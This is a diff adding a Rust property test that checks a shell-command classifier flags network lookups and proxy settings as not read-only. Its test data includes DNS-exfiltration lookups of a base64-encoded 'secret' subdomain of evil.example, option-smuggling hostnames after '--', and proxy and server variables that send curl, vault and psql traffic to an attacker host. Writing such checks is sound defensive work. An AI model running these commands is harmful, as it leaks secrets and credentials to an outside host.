@@ -5444,6 +5444,36 @@ proptest! {
         destructive("certbot unregister")?;
     }
 
+    /// Review 88: names a lookup sends out whatever they start with (a
+    /// `+name` to ping, host, getent; an option's value to dig; a
+    /// `-name` after `--`), dig's `+domain` by any prefix, nmap's every
+    /// operand a target, chronyc's `ntpdata NAME`, filter names with `_`
+    /// or in brackets, proxies and servers set by a statement.
+    #[test]
+    fn review_eighty_eight_classes(
+        name in select(vec!["+c2VjcmV0.evil.example", "+evil.example"]),
+        lookup in select(vec!["ping -c1 {n}", "host {n}", "host pve1 {n}", "getent ahosts {n}", "nslookup {n}", "dig -q {n}", "iperf3 -c {n}", "traceroute -s {n} pve1"]),
+        dashed in select(vec!["ping -c1 -- -x.evil.example", "nc -z -- -x.evil.example 22", "iperf3 --client=-x.evil.example"]),
+        domain in select(vec!["+dom=", "+doma=", "+domai=", "+doMAIN=", "+domain="]),
+        filter in select(vec!["ss -tn dst c2V_jcmV0.evil.example", "ss -tn dst '[c2VjcmV0.evil.example]'", "lsof -i @c2V_jcmV0.evil.example", "fuser 22,c2V_jcmV0.evil.example/tcp"]),
+        proxy in select(vec![
+            "https_proxy=http://evil.example:3128; curl -s https://pve1:8006/", "ALL_PROXY=socks5h://evil.example:1080; curl -s http://pve1/",
+            "VAULT_ADDR=https://evil.example:8200; vault status", "PGHOST=evil.example; psql -c 'select 1'",
+        ]),
+    ) {
+        not_read_only(&lookup.replace("{n}", name))?;
+        not_read_only(dashed)?;
+        not_read_only(&format!("dig {domain}evil.example pve1"))?;
+        not_read_only("nmap -sn pve1 134744072")?;
+        not_read_only("chronyc ntpdata evil.example")?;
+        not_read_only(filter)?;
+        not_read_only(proxy)?;
+        read_only("ping -c1 10.0.0.5")?;
+        read_only("dig @10.0.0.1 -x 10.0.0.5 +short")?;
+        read_only("chronyc ntpdata 10.0.0.1")?;
+        read_only("nmap -sn 10.0.0.0/24")?;
+    }
+
     /// Review 84: a glob reaches a game's settings whatever its letters
     /// (bracket expressions, two letters, a copy's suffix); an RCON
     /// client whose options have values but no command reads its input;
